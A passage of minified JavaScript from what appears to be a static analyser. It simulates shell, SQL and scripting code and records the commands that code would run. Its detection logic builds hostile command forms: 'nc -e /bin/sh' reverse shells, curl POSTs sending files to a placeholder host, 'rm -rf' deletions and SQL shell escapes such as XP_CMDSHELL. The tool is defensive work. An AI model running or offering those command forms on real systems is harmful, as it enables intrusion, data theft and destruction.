l.reverse():l).join("")})}var Co={args:[],environment:{},variables:new Map},{forms:Ja}=S,Uk=16,Dt=({text:t,glob:e})=>({kind:"text",of:[t],glob:e}),sp=({input:t=""})=>t.replace(/\n$/,"").
split(`
`).slice(0,Uk);function Ys(t){if(t.input!==void 0)return w.text(...new Set([t.input.replace(/\n$/,""),...sp(t)]))}function rp(t,{args:e,environment:s,input:r=""},n){
let o=(a,l)=>a.some(c=>c.text!==""&&Ie(c))&&l.test(t);return(n!=="awk"||t.includes("ARGV"))&&o(e,Ja.uses_arguments)?!0:o(Object.values(s),Ja.uses_environment)||
o([R(r)],Ja.uses_input)}function np(t,e,s){let r=s.args.map(Dt),n=s.script===void 0?[]:[w.text(s.script)],o=w.list([n[0]??w.text("-"),...r]),i=new Map([["HOME",
w.text("~")]]).set(`${"\uFFFC"}0`,w.variable());for(let[c,d]of Object.entries(s.environment))i.set(c,Dt(d));let a=Ys(s),l={args:w.list(r),argv:o,"node-argv":w.list(
[w.text("node"),...n,...r]),"joined-args":w.text(s.args.map(c=>c.text).join(" ")),environment:{kind:"map",entries:i},server:{kind:"map",entries:new Map([...i,["\
argv",o]])},text:a,lines:a&&w.list(sp(s).map(c=>w.text(c)))};for(let[c,d]of Object.entries(t)){let u=l[d];if(!u)continue;e.declare(c,u);let p=u.kind==="list"?u.
items.entries():[];for(let[f,m]of u.kind==="map"?u.entries:p)e.declare(`${c}.${f}`,m)}}var{E:$R,...Hk}=S.escapes,{forms:ks}=S;function Za(t){return t.includes("\\")?t.replace(ks.escape,(e,s,r,n,o,i,a)=>{if(i!==void 0)return"";if(o!==void 0)return String.
fromCharCode(Number.parseInt(o,8));let l=s??r??n;if(l===void 0)return Hk[a]??a;let c=Number.parseInt(l,16);return c>1114111?"":String.fromCodePoint(c)}):t}var op={
"(":")","[":"]","{":"}","<":">"};function Xe(t,e,s){return t.lastIndex=s,t.exec(e)??void 0}function ip(t,e,s){let{lexer:r}=s,n=t[e],o=Xe(r.triple?ks.prefixed_quote:
ks.quote,t,e);if(o){let{prefix:d="",close:u=""}=o.groups,p=r.interpolation==="template",f=r.triple?!/f/i.test(d):u==="'"||u==='"'&&p,m=u!=="`"||p?"text":"shell",
h=(u!=="'"||r.single_escapes)&&!/r/i.test(d),g=f?"none":r.interpolation;return el(t,e+o[0].length,s,{close:u,kind:m,escapes:h,interpolation:g})}if(r.patterns&&n===
"/"&&s.value){let d=Xe(ks.slashed_pattern,t,e);return d&&ap(e+d[0].length)}let i=r.quoting==="q"?Xe(ks.input_line,t,e):void 0;if(i)return{token:{kind:"name",text:"\
STDIN"},end:e+i[0].length};if(r.heredoc&&n==="<")return Gk(t,e,s);let a=t.slice(Math.max(0,e-2),e),c=(r.quoting==="q"?!/[\w$@%&>]$/.test(a):s.value||/\w\s$/.test(
a))?Xe(ks[`quoting_${r.quoting}`],t,e):void 0;return c&&zk(t,c,s)}function el(t,e,{lexer:s,within:r},n){let{close:o="\0",kind:i="text",escapes:a,interpolation:l=a?
s.interpolation:"none"}=n,c=[],d=e,u=e,p=f=>{let m=t.slice(u,f),h=a?Za(m):m.replace(/\\(['\\])/g,"$1");h!==""&&c.push(h)};for(;d<t.length&&!t.startsWith(o,d);){
let f=t[d];if(f===`
`&&o.length===1&&l==="f_string")break;let m=l==="f_string"&&/[{}]/.test(f)&&t[d+1]===f,h=r&&f!=="\\"?Bk(t,d,l):void 0;if(!h){d+=f==="\\"||m?2:1;continue}if(p(d),
h.name!==void 0)c.push([{kind:"name",text:h.name}]),d+=h.length;else{let g=r(d+h.length);c.push(g.tokens),d=g.end+1}u=d}return p(Math.min(d,t.length)),c.length===
0&&c.push(""),{token:{kind:i,pieces:c},end:Math.min(t.length,d+o.length)}}function Bk(t,e,s){let r=Xe(ks[`opening_${s}`],t,e);if(r)return{length:r[0].length};let n=s===
"dollar"?Xe(ks.dollar_name,t,e):void 0;if(!n)return;let[{length:o},i,a,l,c]=n;return i!==void 0?{length:o,name:`"${i}"`}:c===void 0?{length:o,name:`$${a??l}`}:/^(?:ENV|ARGV)$/.
test(l??"")?{length:o,name:`$${l}.${c.replace(/\W/g,"")}`}:{length:o,name:"\uFFFC"}}var ap=t=>({token:{kind:"text",pieces:["\uFFFC"]},end:t});function zk(t,e,s){
let r=e[1],n=e[2].trim(),o=op[n]??n,i=e.index+e[0].length,a=i;for(let p=1;a<t.length&&(t[a]==="\\"?a+=1:t[a]===o?p-=1:t[a]===n&&(p+=1),p!==0);a++);let l=t.slice(
i,a),c=Math.min(t.length,a+1);if(["qw","%w","%W","%i","%I"].includes(r))return{token:{kind:"words",words:l.split(/\s+/).filter(p=>p!=="")},end:c};if(["m","tr","\
y","s","qr","%r"].includes(r)){let p=["tr","y","s"].includes(r)?t.indexOf(o,c+(op[n]?1:0)):a;return ap(p<0?t.length:p+1)}let d=!["q","%q"].includes(r),u=["qx","\
%x"].includes(r)?"shell":"text";return{...el(t.slice(0,a),i,s,{kind:u,escapes:d}),end:c}}function Gk(t,e,s){let r=Xe(s.lexer.heredoc,t,e);if(!r)return;let n=t.indexOf(
`
`,e),o=Math.max(s.heredocEnd,n<0?t.length:n+1),i=new RegExp(`^[ \\t]*${r[1]??r[2]??r[3]}\\b`,"m").exec(t.slice(o)),a=o+(i?.index??t.length),{token:l}=el(t.slice(
0,a),o,s,{escapes:!r[2]});return{token:l,end:e+r[0].length,heredocEnd:a+(i?.[0].length??0)}}var{codeWords:Qs,forms:Xs}=S,Kk=8;function Js(t,e,s=0){s>Kk&&e.fail("too-deep","SQL in SQL is nested too deeply");let r=Qk(t);for(let[n,o]of r.entries()){if(!e.
step(1+o.length))return;let[i]=o;/^(?:ROLLBACK|DISCARD|ABORT)$/i.test(i?.text??"")&&e.temporaryTables.clear(),!(e.signs.has("rolled-back")&&/^(?:DELETE|UPDATE)$/i.
test(i?.text??""))&&(i?.kind==="shell"?e.runShellLine(w.text(i.text)):Yk(new tl(o,e,s,r.slice(0,n))))}}var tl=class{constructor(e,s,r,n){this.tokens=e;this.collector=
s;this.depth=r;this.earlier=n;this.words=e.map(o=>o.kind==="word"?o.text.toUpperCase():"")}tokens;collector;depth;earlier;words;report(...e){let[s="",r=""]=e,{temporaryTables:n}=this.
collector,o=!this.tokens.some(({text:i})=>i===",");o&&/^pg_temp\./i.test(r)||(!o||!Xs.table_deed.test(s)||!n.has(r)?this.collector.addInvocation("sql",e):s==="d\
rop-table"&&n.delete(r))}word(e){return this.words[e]??""}name(e){let s=this.word(e)==="TABLE"?e+1:e;for(;Qs.sql_fillers.has(this.word(s));)s+=1;let r=this.tokens[s]?.
text??"";for(;this.tokens[s+1]?.text==="."&&this.tokens[s+2];s+=2)r+=`.${this.tokens[s+2].text}`;return r}valueAfter(e){let s=e<0?void 0:this.tokens.slice(e+1,e+
6).find(({kind:r})=>r==="text");return s&&w.text(s.text)}isUnlimited(e){let s=this.words.indexOf("WHERE",e);if(s<0)return!this.words.includes("LIMIT",e);let r=this.
tokens.slice(s+1).map(({text:n})=>n);return r.join(" ").length<200&&Xs.true_condition.test(r.join(" ").trim())}empties(e){let s=this.tokens.map(({text:r})=>r);return Xs.
no_rows.test(s.join(" "))&&s.indexOf(s[e])!==s.lastIndexOf(s[e])}formatText(e){let s=[];for(let{kind:r,text:n}of this.tokens.slice(e+1))r==="mark"&&n===","?s.push(
""):s.length>0&&r==="text"&&s.push(`${s.pop()}${n}`);return this.tokens[e].text.replace(/%\d*\$?[sIL]/g,()=>s.shift()||"x")}readInner(e){let s=this.tokens.findIndex(
({kind:l},c)=>c>e&&l==="text"),r=this.words.findLast(l=>l!==""),n=this.earlier.findLast(l=>l.some(({text:c})=>c.toUpperCase()===r))??[];if(this.word(e+1)==="FOR\
MAT"&&s!==-1){Js(this.formatText(s),this.collector,this.depth+1);return}let o=this.tokens[s+1]?.text.startsWith("|")?"\uFFFC":"",a=(s===-1?n:[this.tokens[s]]).map(
({kind:l,text:c})=>l==="text"?c:"").join("");Js(`${a}${o}`,this.collector,this.depth+1)}};function Yk(t){let{words:e,tokens:s,collector:r}=t;if(!(e[0]==="EXPLAI\
N"&&!e.some(n=>/^ANALY[SZ]E$/.test(n))))for(let[n,o]of e.entries()){let i=s[n-1],a=i?.kind==="mark"&&i.text===(/^(?:EXPLAIN|MATCH)$/.test(e[0])?")":"(");if(n===
0||a||Qs.sql_leads.has(e[n-1])){if(!r.step(Math.ceil((e.length-n)/16)))return;Object.hasOwn(cp,o)?cp[o](t,n):Qs.sql_code.has(o)?t.readInner(n):sl(t,n)}/^(?:XP_CMDSHELL|SYS_EXEC|SYS_EVAL)$/.
test(o)?r.runShellLine(t.valueAfter(n)):Qs.sql_reads.has(o)?r.readFile(t.valueAfter(n)):Qs.sql_writes.has(o)&&r.recordWrite(t.valueAfter(n))}}function sl(t,e){let s=S.
sqlStatements.find(({words:r})=>r.every((n,o)=>n.includes(t.word(e+o))));s&&t.report(s.does,...s.name===void 0?[]:[t.name(e+s.name)])}var lp=(t,e)=>{let s=t.words.
slice(e+1,e+12).join(" ");t.report(t.word(e).toLowerCase(),s.trim())},cp={CREATE:(t,e)=>{let s=t.words.findIndex((o,i)=>i>e&&Xs.temporary.test(o)),r=t.words.indexOf(
"TABLE",e)+1;t.word(e+2)==="REPLACE"&&t.empties(r)&&t.report("truncate",t.name(r)),!t.words.includes("ON")&&t.collector.source==="sql"&&s>0&&s<e+3&&t.word(s+1)===
"TABLE"?t.collector.temporaryTables.add(t.name(s+2)):sl(t,e)},DROP:(t,e)=>{let{words:s,tokens:r}=t,n=s.slice(e+1,e+5).find(a=>Qs.sql_kinds.has(a));if(!n)return;
let i=`drop-${Xs.temporary.test(t.word(e+1))||r[e+2]?.text.startsWith("#")?"temporary-":""}${n.toLowerCase()}`;t.report(i,t.name(s.indexOf(n,e)+1))},DELETE:(t,e)=>{
let s=Math.max(e,t.words.indexOf("FROM",e)),r=t.words.indexOf("MATCH")>=0,o=!(r&&/(?:\( ?|\w )(?<!\bCALL )\{/.test(t.tokens.map(({text:i})=>i).join(" ")))&&t.isUnlimited(
r?0:e);t.report(o?"delete-all":"delete-some",t.name(s+1))},UPDATE:(t,e)=>{t.words.includes("SET",e)&&t.report(t.isUnlimited(e)?"update-all":"update-some",t.name(
e+1))},ALTER:(t,e)=>{let{words:s}=t;for(let n=s.indexOf("DROP",e+2);n>0;n=s.indexOf("DROP",n+1)){let o=Qs.sql_kinds.has(t.word(n+1)),i=o?s[n+1].toLowerCase():"c\
olumn";t.report(`drop-${i}`,t.name(e+2),t.name(n+(o?2:1)))}let r=s.findIndex((n,o)=>/^(?:DELETE|UPDATE|TRUNCATE)$/.test(n)&&s[o-1]!=="ON");r>0&&t.isUnlimited(r)&&
t.report("delete-all",t.name(e+2)),sl(t,e)},GRANT:lp,REVOKE:lp,COPY:(t,e)=>{let{words:s,collector:r}=t,n=i=>t.valueAfter(s.indexOf(i,e)),o=s.indexOf("TO",e);s.includes(
"PROGRAM",e)?r.runShellLine(n("PROGRAM")):o>0&&t.empties(o+1)?r.addInvocation("truncate",["-s","0",n("TO")]):n("TO")?r.recordWrite(n("TO")):n("FROM")&&r.readFile(
n("FROM"))},CALL:({words:t,tokens:e,collector:s,depth:r})=>{let n=e.flatMap(({kind:o,text:i})=>o==="text"?[i]:[]);t.includes("PERIODIC")&&Js(n.slice(0,2).join("\
 "),s,r+1)}};function Qk(t){let e=[[]],s=(r,n)=>e.at(-1).push({kind:r,text:n});for(let r=0;r<t.length;){let o=t[r]==="\\"||e.at(-1).length===0?Xe(Xs.client_command,
t,r):void 0,i=o??Xe(Xs.sql_token,t,r),{shell:a,piped:l,program:c,quote:d,quoted:u,name:p,text:f,word:m,mark:h}=i.groups,g=a??l??c?.replaceAll("''","'"),y=d==="'"||
d==='"'&&/[\s/]/.test(u),x=m!==void 0&&/^go$/i.test(m)&&t[r-1]===`
`;g!==void 0?e.push([{kind:"shell",text:g}],[]):o||h===";"||x?e.push([]):u!==void 0?s(y?"text":"word",u.replaceAll(d+d,d)):f!==void 0?s("text",f):h!==void 0?s("\
mark",h):(m!==void 0||p!==void 0)&&s("word",m??p),r+=i[0].length}return e.filter(r=>r.length>0)}var{codeWords:pp}=S,Eo=w.glob(w.text("**"));function il({collector:t},e,s=I,r=[]){let[n=I,...o]=s.kind==="made"?s.args:[s],i=n.kind==="content"&&!n.of&&n.from.find(
({program:m})=>m==="curl"),a=i?i.args.at(-1).text:n,l=[...r,...o].filter(m=>m!==void 0),c=G.content(l),d=c?[...c.files.map(m=>`@${m}`),...c.from.slice(0,1).map(
()=>"@-")]:l.map(v.firstText);if(t.imitates("requests"))return I;let u=l.length>0&&e==="GET"?"POST":e,p=[...pp.sending_verbs.has(u)||u==="\uFFFC"?["-X",u]:[],...d.
flatMap(m=>["-d",m]),a],f=c?.from.length?c:void 0;return w.content([t.addInvocation("curl",p,t.createInput(f))])}function fp({collector:t},e,s=I,r){let[n=I,o]=r?.
kind==="made"?r.args:v.items(r);t.addInvocation(e,[n,o],t.createInput(G.content([s])))}function al(t,e,s,r){if(e?.kind!=="made")return!1;let{by:n,args:o}=e;return n===
"written"||n==="appended"?t.collector.recordWrite(o[0],s,r||n==="appended"):n==="request"?il(t,"POST",o[0],[s]):(n==="connection"||n==="client")&&fp(t,"nc",s,e),
!0}var ll={run:({collector:t,named:e,receiver:s},[,...r],[n])=>{if(t.source==="ruby"&&v.word(e.get("noop"))==="true"||pp.file_programs.has(n)&&t.signs.has("dry-\
files")||(n==="sql"||n==="django-admin"&&t.signs.has("own-settings"))&&t.isInMemory)return;let a=n==="git"?G.root(s):void 0,[l]=O.made(a,"git")?a.args:[],d=l!==
void 0&&v.texts(l).every(p=>X(p,"passing-databases"))?{folder:R(v.firstText(l))}:{},u=n==="django-admin"?v.texts(r[0]).map(p=>[w.text(p)]):void 0;for(let p of u??
[ol(r)])t.addInvocation(n,p,d)},chmod:({collector:t},[e=I,s])=>{let r=s?.kind==="choice"?s.values:[],n=["text","number"].map(a=>r.find(({kind:l})=>l===a)).find(
Boolean)??s;if(r.some(a=>a.kind==="number"&&(a.number&3072)!==0))return void t.addInvocation("chmod",["u+s",e]);let i=n?.kind==="number"?n.number.toString(8):v.
firstText(n).replace(/^0o?/,"");t.addInvocation("chmod",[i,e])},kill:({collector:t},[e=I,s=w.text("TERM")],r)=>{let n=r.includes("group")?w.joined([w.text("-"),
e]):e,i=t.signs.has("lists-processes")&&!O.known(e)||!t.choosesProcesses&&O.made(G.root(e),"any-process"),a=`-${v.lastName(v.word(s)).replace(/^(?:SIG|:)/,"")}`;
if(t.addInvocation(i?"pkill":"kill",[a,n]),!(i||!O.made(G.root(e),"any-process")))for(let l of t.processNames)t.addInvocation("pkill",[a,l])},write:({collector:t},[
e,s,r])=>{t.recordWrite(e,s,r?.kind==="name"||/^(?:8|append)$/.test(v.firstText(r)))},transfer:(t,[,e,s],[r])=>fp(t,r,e,s),"docker-run":({collector:t,args:[e,s],
named:r})=>{let n=r.get("volumes"),i=(n?.kind==="map"?[...n.entries.keys()]:[]).flatMap(a=>["-v",`${a}:/mounted`]);v.word(r.get("privileged"))==="True"&&i.push(
"--privileged"),t.addInvocation("docker",["run",...i,e,...s?[s]:[]])},"sends-files":({collector:t,args:e})=>{let s=v.parts(e).filter(({key:r})=>/^(?:path|filename|file)$/.
test(r));for(let r of s.flatMap(({value:n})=>v.texts(n)))t.addInvocation("curl",["-X","POST","-d",`@${r}`,"https://mail.example"])},emit:({collector:t,invoke:e},[
s,r])=>{for(let n of t.listeners.get(v.firstText(s))??[])e(n,v.items(r))},print:({args:t,named:e,collector:s},r,[n])=>{let o=(l,c)=>e.has(l)?v.firstText(e.get(l)):
c,[i,a]=[n?"":" ",n==="text"?"":`
`];e.has("file")||s.recordPrint(t,o("sep",i),o("end",a))}},cl=(t,[e=I,s],r)=>{let[,n]=/^\s*\|([\s\S]*)$/.exec(v.firstText(e))??[];if(n!==void 0)return t.collector.
runShellLine(w.text(n));let o=s===void 0?"r":v.firstText(s);return v.parts(s?[s]:[]).some(({value:l})=>X(v.word(l),"writing-flags"))||s?.kind==="unknown"&&r.includes(
"flags")||/[waxc+]/.test(o)?(t.collector.recordWrite(e,void 0,o.includes("a")),w.derived(o.includes("a")?"appended":"written",e)):nl(t,e)},nl=(t,e)=>/^(?:https?|ftp):/i.
test(v.firstText(e))?il(t,"GET",e):t.collector.readFile(e),dp=(t,[e,s,...r])=>il(t,v.firstText(e).toUpperCase(),s,r),rl=({chosen:t},e)=>t??(e==="below"?Eo:w.text(
ns)),ol=t=>t.map(e=>e??I),up=t=>v.flat(t.filter(e=>e!==void 0)),un={read:(t,[e])=>nl(t,e),open:cl,shell:({collector:t},[e,s])=>{let r=s&&G.content([s]);return r&&
e?.kind==="list"&&t.addInvocation(v.firstText(e.items[0]),e.items.slice(1),t.createInput(r)),e?.kind==="list"?w.merged((e.lists??[e.items]).map(n=>t.runProgram(
n))):t.runShellLine(e)},program:({collector:t},e)=>t.runProgram(v.flat(ol(e))),command:({collector:t},[e])=>{let s=v.items(e);return s.length>1?t.runProgram(s):
t.runShellLine(s[0])},execute:({collector:t},[e=I,s])=>{let r=v.items(s),[n]=r,o=n?.kind==="list"?n.items:r,i=r.length===1&&n?.kind!=="list"&&n?.kind!=="text";return t.
runProgram([e,...i?[I]:o.slice(1)])},eval:({evaluateCode:t},[e])=>t(e),include:(t,[e])=>t.evaluateCode(nl(t,e)),request:dp,"open-request":(t,e,s)=>{let r=dp(t,e,
s);return/^get$/i.test(v.firstText(e[0]))?r:w.derived("request",e[1]??I)},connect:({receiver:t,collector:e},s)=>{let r=up(s);return O.made(t,"ssh")||e.addInvocation(
"nc",[r[0]??I,r[1]]),w.derived("connection",...r.slice(0,2))},send:(t,[e,s],r)=>al(t,e,s,r.includes("append"))?I:void 0,sql:({collector:t,receiver:e},[s])=>{if(t.
isInMemory||t.isMocked)return I;O.made(s,"whole-update")&&t.addInvocation("sql",["update-all","rows"]),O.made(s,"pending-delete","whole")&&t.addInvocation("sql",
["delete-all","rows"]);let r=v.parts([s??I]).flatMap(({value:o})=>v.texts(o)).filter(o=>/\w\s/.test(o));if(r.length===0)return;if(!(O.made(e,"database")?v.texts(
e.args[0]):[""]).every(o=>X(o,"passing-databases"))||t.signs.has("attaches"))for(let o of r)Js(o,t);return I},load:({evaluateCode:t},[e])=>e?.kind==="content"&&
e.from.length>0?t(e):void 0,input:({collector:t})=>Ys(t.input),environment:({collector:t},[e,s])=>{let r=v.firstText(e),{environment:n}=t.input;if(Object.hasOwn(
n,r))return Dt(n[r]);if(r==="HOME")return w.text("~");let o=w.variable(e?r:"");return s?{...o,of:["\uFFFC",...v.texts(s)]}:o},value:(t,[e])=>e??I,entries:(t,e,[
s])=>w.list([s===void 0?I:w.derived(s)]),name:(t,e,[s])=>w.name(s),"mock-class":({imitate:t},[e])=>t(w.derived("mock"),w.text(`class ${v.word(e)}`)),secret:({collector:t})=>w.
content([t.createInvocation("aws",["secretsmanager","get-secret-value"])]),listen:({collector:t,invoke:e},[s,r,n])=>{let o=v.firstText(r);n&&t.listeners.set(o,[
...t.listeners.get(o)??[],n]);let i=s?.kind==="list"?s.items[0]:s;return(i?.kind==="content"||i?.kind==="made")&&e(n??I,[i,i]),s},"empty-text":()=>w.text(""),listed:(t,[
e])=>G.client(e)?w.list([e]):e,module:({collector:t,evaluateCode:e},[s])=>{if(s?.kind==="content")return e(s);let r=v.firstText(s).replace(/^node:/,"");return t.
modules.add(r),w.name(r)},made:({args:t,collector:e},[,...s],[r])=>{let n=s.length>0||r==="mock"?s.filter(o=>o!==void 0):t;return r==="database"&&e.openedDatabases.
push(v.texts(n[0]).every(o=>X(o,"passing-databases"))),w.derived(r,...n)},glob:(t,e)=>{let s=os(ol(e));return s.kind==="text"?w.glob(s):I},join:(t,e)=>{let s=up(
e);return s.length>0?os(s):w.text(".")},folder:({collector:t},[e=w.text(".")],[,s])=>w.list([os([e,rl(t,s)])]),dirents:({collector:t},[e=w.text(".")])=>w.list([
w.derived("dirent",e,rl(t))]),names:({collector:t},[e])=>w.list([e===void 0||O.known(e)?rl(t):I])};var mp=t=>v.flat([t]).filter(e=>!v.firstText(e).startsWith("!")),Ao=t=>t!==void 0&&!(t.kind==="name"&&t.path==="false");function hp(t,e){let s=[...t].filter(([o])=>/side_effect|wraps/.
test(o)).map(([,o])=>o),r=[...t].filter(([o])=>!X(o,"mock-options")).map(([,o])=>o),n=v.parts(r).map(({value:o})=>o);return s.every(e)?w.derived("mock",...n.filter(
o=>!O.mock(o))):I}var To={"attach-shell":({collector:{invocations:t},collector:e},[s=I])=>{let r=t.find(({program:n})=>n==="nc");r&&!t.some(({args:n})=>n[0]?.text===
"-e")&&e.addInvocation("nc",["-e",v.flat([s])[0],...r.args.map(n=>n.text)])},attribute:({getMember:t},[e=I,s])=>w.choice(v.texts(s).map(r=>t(e,r))),method:(t,e)=>w.
derived("bound",To.attribute(t,e,[])??I,w.list([])),walk:({collector:{chosen:t}},[e=w.text(".")])=>{let s=!t&&e.kind==="text",r=w.list([s?Eo:t??I]);return w.list(
[w.list([s?e:os([e,w.text("\uFFFC")]),r,r])])},"remove-matches":({collector:t},[e=I,s])=>{for(let r of Ao(s)?[]:mp(e))t.addInvocation("rm",["-rf",w.glob(r)]);return I},
"declare-option":({collector:t,args:e,named:s},[r=I])=>{let n=t.input.args,o=e.map(v.firstText),i=n.find((u,p)=>o.includes(n[p-1]?.text??"")),a=n.some(u=>!Ie(u)||
/^[-@]/.test(u.text)),l=v.firstText(s.get("action"))==="store_true"&&!s.has("default")&&!a,c=i?Dt(i):w.merged([r,...n.map(()=>I)]),d=l?w.name("False"):c;for(let u of o)
t.options.set(u.replace(/^-+/,"").replaceAll("-","_"),d);return I},mock:({named:t,isFollowed:e})=>hp(t,e),imitate:({imitate:t},[e,s,r=w.derived("mock")])=>e?.kind===
"text"&&s?t(s,e):e?t(r,e,s):r,"end-imitation":({imitate:t},[e])=>t(I,e),patcher:({named:t,isFollowed:e},[s,r,n],[,o])=>{let[i,a]=o==="$1:attribute"?[`.${v.firstText(
r)}`,n]:["",r],l=v.word(t.get("new_callable")??w.text("Mock")),c=a===void 0||v.word(a).endsWith("DEFAULT"),d=/Mock$/.test(l)?hp(t,e):I,u=c?d:a;return s&&Ie(R(v.
word(s)+i))&&!O.mock(s)&&e(u)?w.derived("patcher",w.text(v.word(s)+i),u):void 0},"start-patcher":({receiver:t,imitate:e})=>O.made(t,"patcher")?e(t.args[1],t.args[0]):
void 0,spy:({args:t,imitate:e},[s,r,n],[,,,o])=>{if(s?.kind!=="name"||s.self)return;let i=w.text(`${s.path}.${v.firstText(r)}`);return(o??(t.length===3&&n?.kind===
"function"))&&e(n??w.derived("mock"),i),w.derived("spy",i)},"answer-spy":({receiver:t,imitate:e},[s],[,r])=>{let n=G.root(t);if(O.made(n,"spy"))return e(r===void 0&&
s?s:w.derived("mock",...s?[s]:[]),n.args[0]),n},options:({collector:t})=>({kind:"map",entries:t.options}),globs:(t,[e=I,s])=>w.list(mp(e).map(r=>w.glob(s?os([s,
r]):r))),"temporary-pair":()=>w.list([I,w.text(`/tmp/${"\uFFFC"}`)]),"new-folder":({named:t,args:[e]})=>{let[s]=v.texts(t.get("dir")??e),r=s!==void 0&&!s.startsWith(
"/tmp")&&/[./~]/.test(s);return w.text(r?`${s}${"\uFFFC"}`:`/tmp/tmp.${"\uFFFC"}`)},"request-over":(t,[e,s=I,...r],n)=>{let o=t.receiver?.kind==="made"?[s,...v.
flat(t.receiver.args)]:[s],i=o.find(l=>/^https?:/.test(v.firstText(l)))??o[1]??I,a=i===s||o.length===1?s:w.joined([i,s]);return un.request(t,[e,a,r.find(l=>l)],
n)},entry:(t,[e,s,r],n)=>e?.kind==="map"?e.entries.get(v.firstText(s))??un.environment(t,[s,r],n):void 0,spawn:({collector:t},[e=I,s,r])=>{let n=s?.kind==="list"||
s?.kind==="unknown"?v.flat([s]):[],o=(s?.kind==="list"?s.lists:void 0)??[n];return Ao(r)?t.runShellLine(w.text([e,...n].flatMap(v.texts).join(" "))):w.merged(o.
map(i=>t.runProgram([e,...i])))},"join-parts":({args:t})=>w.joined(t.filter(v.firstText),"/"),pipe:(t,[e,s=I])=>(O.made(s,"connection","client")&&e?.kind==="con\
tent"&&e.from.length>0?To["attach-shell"](t,[w.text("/bin/sh")],[]):al(t,s,e,!0),s),then:({receiver:t,args:[e],invoke:s})=>e?.kind==="function"||e?.kind==="name"&&
!e.self?s(e,[t??I]):t,take:({collector:{input:t}},[e])=>w.merged(e?.kind==="list"?e.items:t.args.map(Dt)),"open-perl":(t,[e,s=I])=>{let[,r="<",n="",o]=/^\s*(\+?[<>]{1,2}|\|-?|-\|)?\s*([\s\S]*?)\s*(\|?)\s*$/.
exec(v.firstText(e))??[],i=v.flat(v.elements(s)),[a=w.text(n)]=i;if(r.includes("|")||o&&i.length===0)return i.length>1?t.collector.runProgram(i):t.collector.runShellLine(
a);let l=r.includes(">")?"w":"r";return cl(t,[a,w.text(r===">>"?"a":l)],[])},find:({args:[t,...e],collector:s,invoke:r})=>{let n=t?.kind==="map"?t.entries.get("\
wanted"):t;if(n?.kind!=="function")return;n.definition.called=!0;let o=[{name:"$_"},{name:"$File.Find.name"}],i={...n,definition:{...n.definition,parameters:o}};
for(let a of e.flatMap(v.texts)){let l=os([w.text(a),s.chosen??Eo]);r(i,[l,l])}return I}};var bp=require("node:path");function Xk(t){try{return decodeURIComponent(t)}catch{return"\uFFFC"}}var Jk="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";function Zk(t){let s=Array.from(t.replace(/=+$/,
""),r=>Jk.indexOf(r).toString(2).padStart(5,"0")).join("").match(/[01]{8}/g)??[];return Buffer.from(s.map(r=>Number.parseInt(r,2))).toString("utf8")}var Zs={base64:t=>Buffer.
from(t,"base64").toString("utf8"),base32:Zk,hex:t=>Buffer.from(t.replace(/\s/g,""),"hex").toString("utf8"),unread:()=>"\uFFFC\uFFFB",url:Xk,reverse:t=>Array.from(
t).reverse().join(""),lower:t=>t.toLowerCase(),upper:t=>t.toUpperCase(),trim:t=>t.trim(),"trim-end":t=>t.trimEnd(),"trim-start":t=>t.trimStart(),home:t=>t.replace(
/^\$\{?HOME\}?/,"~")};var ev=64,tv=/^(base64|hex)(?:url)?$/,sv=/^(?:rot13|zlib|zip|bz2|uu)$/,dl=t=>w.joined(t.map(e=>{let s=v.number(e)??-1;return w.text(s>=0&&s<=1114111?String.fromCodePoint(
s):"\uFFFC")})),pl=t=>bt(t,e=>/^\.?\/?$/.test(e)?"..":bp.posix.dirname(e));function ul(t){return typeof t=="string"?w.text(t):typeof t=="number"?w.number(t):Array.
isArray(t)?w.list(t.map(ul)):t===null||typeof t!="object"?I:{kind:"map",entries:new Map(Object.entries(t).map(([e,s])=>[e,ul(s)]))}}function gp(t){let[e=[]]=[...t].
sort((s,r)=>r.length-s.length);return w.list(e.map((s,r)=>w.list(t.map(n=>n[r]??I))))}var yp={fold:(t,[,e=I],[s])=>bt(e,Zs[s]),characters:(t,[e])=>e?.kind==="li\
st"?dl(e.items):e,"parse-json":(t,[e])=>{try{return O.known(e)?ul(JSON.parse(v.firstText(e))):void 0}catch{return}},dirname:(t,[e])=>e&&pl(e),pairs:(t,[e])=>e?.
kind==="map"?w.list([...e.entries].map(([s,r])=>w.list([w.text(s),r]))):void 0,numbered:(t,[e=I])=>gp([[],v.elements(e)]),flat:({args:t},[e])=>w.list((e?v.elements(
e):t).flatMap(s=>v.elements(s))),rows:({args:t})=>gp(t.map(v.elements)),keys:(t,[e])=>e?.kind==="map"?w.list(v.elements(e)):I,"from-pairs":({named:t},[e])=>{let s=v.
items(e).map(v.elements),r=s.map(([n,o=I])=>[v.firstText(n),o]);return e&&s.length===0?void 0:{kind:"map",entries:new Map([...t,...r])}},append:(t,[e,s])=>(e?.kind===
"list"&&e.items.length<ev&&e.items.push(...v.flat(v.items(s))),e),values:(t,[e])=>e?.kind==="map"?w.list([...e.entries.values()]):void 0,decode:(t,[e=I,s])=>{if(e.
kind==="list")return dl(e.items);let r=v.firstText(s).toLowerCase().replace(/[-_]/g,""),n=sv.test(r)?"unread":tv.exec(r)?.[1];return n===void 0?e:bt(e,Zs[n])},"\
code-point":(t,[e,s])=>w.number(O.known(e)?v.firstText(e).codePointAt(v.number(s)??0):void 0),integer:(t,[e,s])=>w.number(Number.parseInt(v.firstText(e),s?Number(
v.firstText(s)):10)),reverse:(t,[e])=>e?.kind==="list"?w.list([...e.items].reverse()):e&&bt(e,Zs.reverse),"join-texts":(t,[e,s])=>{let[r=I,n]=e?.kind==="list"?[
e,s]:[s,e];if(!(e?.kind!=="list"&&e?.kind!=="text"))return w.joined(v.flat(v.elements(r)),n&&v.firstText(n))},format:({named:t},[e=I,s=I])=>Xa(e,v.elements(s),t),
map:({invoke:t},[e,s])=>{let r=s&&v.elements(s);return e&&r&&w.list(r.map(n=>t(e,[n])))},split:(t,[e,s])=>{if(e?.kind!=="text"||![e,s??e].every(O.known))return;
let r=s&&v.firstText(s),n=v.texts(e).map(o=>{let i=r===void 0?o.match(/\S+/g)??[]:o.split(r);return w.list(i.map(a=>w.text(a)))});return w.merged(n)},replace:(t,[
e=I,...s])=>{let[r="\uFFFC",n=""]=s.map(o=>o&&v.firstText(o));return bt(e,o=>r.includes("\uFFFC")?"\uFFFC":o.replaceAll(r,n))},elements:(t,[e=I])=>w.list(v.elements(
e)),concatenate:(t,[e,s=I])=>e?.kind==="list"?w.list([...e.items,...v.elements(s)]):e?.kind==="text"?w.joined([e,...v.elements(s)]):void 0,pack:(t,[e,s])=>{let[
